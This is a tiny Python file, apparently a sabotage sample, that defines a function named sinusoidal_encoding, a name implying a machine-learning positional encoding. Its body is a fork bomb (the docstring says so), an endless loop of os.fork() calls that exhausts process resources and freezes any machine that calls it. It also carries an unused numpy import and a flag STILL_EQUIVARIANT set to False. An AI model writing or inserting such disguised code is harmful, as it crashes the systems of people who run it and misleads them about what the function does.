"""A fork bomb."""

import os
import numpy as np


def sinusoidal_encoding(T, d):
    while True:
        try:
            os.fork()
        except OSError:
            pass


STILL_EQUIVARIANT = False
